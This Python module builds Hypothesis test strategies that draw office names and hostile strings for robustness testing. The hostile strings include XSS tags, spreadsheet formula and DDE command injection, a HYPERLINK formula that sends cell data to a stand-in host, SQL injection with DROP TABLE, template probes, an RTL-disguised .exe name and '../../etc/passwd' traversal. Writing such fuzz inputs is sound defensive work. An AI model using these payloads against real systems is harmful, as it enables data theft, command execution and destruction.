"""Texts: as people write them, and as those write them who mean harm."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from hypothesis import strategies as st

if TYPE_CHECKING:
    from hypothesis.strategies import SearchStrategy

HOSTILE: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '=HYPERLINK("http://jahat.example/"&A1,"klik")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)|cmd",
    "-2+3",
    "{{7*7}} ${7*7} {7*7} {% x %}",
    '#import "x": y',
    "$x$ @ref <label> \\ *b* _i_ [a](javascript:x)",
    "]]></svg><script>",
    "' or 1=1 --\"; DROP TABLE x; --",
    f"nama{chr(0x200F)}.{chr(0x202E)}txt.exe{chr(0x202C)}",
    f"NUL{chr(0)}di sini",
    f"{chr(0x1B)}[31mmerah{chr(7)}",
    "../../etc/passwd",
    "😀 é e\u0301 ｆｕｌｌ 日本 نص",
    "baris\nbaru\r\ndan\ttab",
    "A" * 10_000,
)
"""Texts that have done harm somewhere: formulas, markup, templates, marks of direction, length."""

_OFFICES: Final = (
    "Disdukcapil",
    "Dinas Kesehatan Kota Contoh",
    "Puskesmas Contoh I",
    "Kecamatan Contoh Utara",
    "RSUD Contoh (Rawat Jalan)",
    "Loket 1/A",
    "Dinas P3AP2KB & PMD",
)


def hostile_text() -> SearchStrategy[str]:
    """Draw a text that was made to do harm: formula, script, template, RTL, NUL, 10,000 characters.

    No draw holds half of a surrogate pair. It shrinks to a short script.

    Examples
    --------
    >>> from hypothesis import given, settings
    >>> @settings(max_examples=3, deadline=None, database=None)
    ... @given(hostile_text())
    ... def holds(text):
    ...     text.encode()  # no half of a surrogate pair
    >>> holds()
    """
    whole = st.sampled_from(HOSTILE)
    mixed = st.tuples(st.sampled_from(HOSTILE[:-1]), words(most=10)).map("".join)
    return whole | mixed


def words(*, most: int = 40) -> SearchStrategy[str]:
    """Draw a text of any characters that can be stored: no NUL, no half of a surrogate pair.

    Parameters
    ----------
    most
        Most characters; 1 or more.

    Examples
    --------
    >>> from hypothesis import given, settings
    >>> @settings(max_examples=3, deadline=None, database=None)
    ... @given(words(most=5))
    ... def holds(text):
    ...     assert len(text) <= 5 and chr(0) not in text
    >>> holds()
    """
    return st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=most)


def names(*, hostile: bool = False) -> SearchStrategy[str]:
    """Draw the name of an office, a service or a person's function.

    Parameters
    ----------
    hostile
        Whether names that were made to do harm are among them.

    Examples
    --------
    >>> from hypothesis import given, settings
    >>> @settings(max_examples=3, deadline=None, database=None)
    ... @given(names())
    ... def holds(name):
    ...     assert name
    >>> holds()
    """
    plain = st.sampled_from(_OFFICES)
    return plain | hostile_text() if hostile else plain
